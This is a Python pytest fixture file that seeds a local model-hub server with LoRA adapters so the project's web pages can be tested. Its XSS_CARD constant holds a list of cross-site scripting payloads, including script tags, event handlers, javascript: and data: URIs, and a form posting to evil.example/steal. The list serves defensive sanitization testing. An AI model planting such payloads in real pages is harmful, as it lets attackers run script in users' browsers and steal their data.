"""A real ``loradex serve`` holding the modules the web-page tests look at.

One server per test file: tiny real adapters uploaded through the unmodified
``huggingface_hub`` client, as a user would publish them. The composed module carries the
provenance block ``composer.compose.write_composition`` writes (parents with weights, the
search's loss curve), made here without torch so the pages are tested in seconds.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.adapters import DEFAULT_BASE_MODEL, write_hydra_module, write_lora_adapter
from tests.support.hub import HubServer, start_hub
from tests.support.pg import PG_ADMIN_URL, drop_pg_schema, make_pg_schema_url

BASE = DEFAULT_BASE_MODEL
FILLERS = 7  # modules tagged "filler": pages of 3 make three pages
LOSS_CURVE = [2.31, 2.05, 1.98, 1.71, 1.74, 1.52, 1.49, 1.41, 1.38, 1.36]

# The body composer.compose.write_composition writes (its plot is drawn by the page instead).
COMPOSED_CARD = """\
# composed-tense

A LoRA module composed by loradex from 2 modules with the `lorahub` method, searched with
nevergrad `cma` over 10 evaluations on 5 examples.

Few-shot loss: 2.4000 with zero weights, 1.3600 composed.

![loss curve](loss_curve.png)

## Parents

| module | revision | weight |
|---|---|---|
| alice/past-tense | - | +0.7200 |
| alice/plural | - | -0.1800 |
"""

XSS_CARD = """\
# Totally harmless

<script>alert("script tag")</script>
<img src="x" onerror="alert('onerror')">
<img src=x onerror=alert(1)//>
[click me](javascript:alert('javascript link'))
<a href="javascript:alert('raw javascript link')">raw link</a>
<a href="JaVaScRiPt:alert(1)">mixed case</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
<svg><script>alert("svg script")</script></svg>
<svg onload="alert('svg onload')"><circle r="5"/></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<!-- --><script>alert("comment breakout")</script><!-- -->
--><script>alert("closing comment")</script>
<details open ontoggle="alert('ontoggle')">x</details>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="t"></form>
<p style="background:url(javascript:alert(1))">styled</p>
<a href="https://example.org/ok">a safe link</a>
"""


@dataclass
class SeededHub:
    """The server, its tokens and what was published to it."""

    server: HubServer
    composed: str
    parents: tuple[str, str]
    hydra: str
    xss: str
    private: str
    fillers: tuple[str, ...]
    notes: str

    @property
    def url(self) -> str:
        """The server's base URL."""
        return self.server.url


def _publish(server: HubServer, token: str, repo_id: str, folder: Path,
             private: bool = False) -> str:
    api = server.api(token)
    api.create_repo(repo_id, private=private)
    return api.upload_folder(repo_id=repo_id, folder_path=str(folder)).oid


def seed(server: HubServer, root: Path) -> SeededHub:
    """Publish the modules every web test looks at."""
    alice, bob = server.alice, server.bob
    parents = ("alice/past-tense", "alice/plural")
    shas = []
    for i, (repo, task) in enumerate(zip(parents, ("past_tense", "plural"), strict=True)):
        folder = write_lora_adapter(
            root / repo, rank=8, seed=i,
            front_matter={"base_model": BASE, "license": "apache-2.0",
                          "tags": ["lora", "grammar"],
                          "loradex": {"task_name": task, "task_category": "grammar"}},
            card=f"# {repo}\n\nRewrites sentences ({task}).\n")
        shas.append(_publish(server, alice, repo, folder))
    # A second revision of the first parent, so it has a history of two commits.
    (root / parents[0] / "NOTES.md").write_text("Trained for 3 epochs.\n")
    server.api(alice).upload_file(path_or_fileobj=str(root / parents[0] / "NOTES.md"),
                                  path_in_repo="NOTES.md", repo_id=parents[0],
                                  commit_message="Add training notes")
    composed = "alice/composed-tense"
    provenance = {
        "kind": "lora",
        "composition": {
            "method": {"name": "lorahub"}, "objective": "loss", "optimizer": "cma", "budget": 10,
            "seed": 0, "few_shot_examples": 5, "loss_zero_weights": 2.4,
            "loss": LOSS_CURVE[-1], "loss_curve": LOSS_CURVE,
        },
        "lineage": [
            {"repo_id": parents[0], "revision": shas[0], "weight": 0.72, "role": "parent"},
            {"repo_id": parents[1], "revision": shas[1], "weight": -0.18, "role": "parent"},
        ],
    }
    folder = write_lora_adapter(
        root / composed, rank=8, seed=7,
        front_matter={"base_model": BASE, "library_name": "peft", "license": "apache-2.0",
                      "tags": ["loradex", "lora", "peft", "composed", "lorahub"],
                      "loradex": provenance},
        card=COMPOSED_CARD)
    _publish(server, alice, composed, folder)
    hydra = "bob/hydra-tasks"
    folder = write_hydra_module(
        root / hydra, num_heads=3,
        config_overrides={"head_selection": {"method": "compose", "grouping": "top",
                                             "heads": [[parents[0]], [parents[1]], []]}},
        front_matter={"base_model": BASE, "license": "mit", "tags": ["hydra"]})
    _publish(server, bob, hydra, folder)
    xss = "bob/xss-card"
    folder = write_lora_adapter(root / xss, rank=4, seed=3,
                                front_matter={"base_model": BASE, "license": "mit"},
                                card=XSS_CARD)
    _publish(server, bob, xss, folder)
    private = "team/secret-lora"
    folder = write_lora_adapter(root / private, rank=16, seed=4,
                                front_matter={"base_model": BASE, "license": "other",
                                              "tags": ["filler"]},
                                card="# secret\n\nOnly the team may see this.\n")
    _publish(server, alice, private, folder, private=True)
    fillers = []
    for i in range(FILLERS):
        repo = f"bob/filler-{i:02d}"
        folder = write_lora_adapter(root / repo, rank=4, seed=10 + i,
                                    front_matter={"base_model": BASE, "license": "mit",
                                                  "tags": ["filler"]},
                                    card=f"# filler {i}\n\nPadding for pagination.\n")
        _publish(server, bob, repo, folder)
        fillers.append(repo)
    notes = "alice/notes"  # a repo that holds no adapter
    server.api(alice).create_repo(notes)
    server.api(alice).upload_file(path_or_fileobj=b"# Notes\n\nNo adapter here.\n",
                                  path_in_repo="README.md", repo_id=notes)
    return SeededHub(server, composed, parents, hydra, xss, private, tuple(fillers), notes)


def _start(root: Path, backend: str) -> tuple[HubServer, str | None]:
    if backend == "sqlite":
        return start_hub(root, f"sqlite:///{root / 'hub.db'}"), None
    try:
        url, schema = make_pg_schema_url("ldx_web")
    except Exception as exc:  # the suite requires the PostgreSQL server; say so loudly
        pytest.fail(f"PostgreSQL is not reachable at {PG_ADMIN_URL}: {exc}")
    return start_hub(root, url), schema


def seeded_hub(tmp_path_factory: pytest.TempPathFactory, backend: str) -> Iterator[SeededHub]:
    """Start a server on ``backend``, seed it, and stop it (failing on internal errors)."""
    root = tmp_path_factory.mktemp(f"web-{backend}")
    server, schema = _start(root, backend)
    try:
        yield seed(server, root / "folders")
    finally:
        server.launched.stop(timeout=15)
        if schema:
            drop_pg_schema(schema)
        errors = server.internal_errors()
        assert not errors, f"the server logged internal errors:\n{server.log_path.read_text()}"


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def web_hub(request: pytest.FixtureRequest,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[SeededHub]:
    """A seeded server on SQLite and on PostgreSQL, once per test file."""
    yield from seeded_hub(tmp_path_factory, request.param)


@pytest.fixture(scope="module")
def sqlite_web_hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SeededHub]:
    """A seeded server on SQLite only (the browser tests: the pages are the same)."""
    yield from seeded_hub(tmp_path_factory, "sqlite")
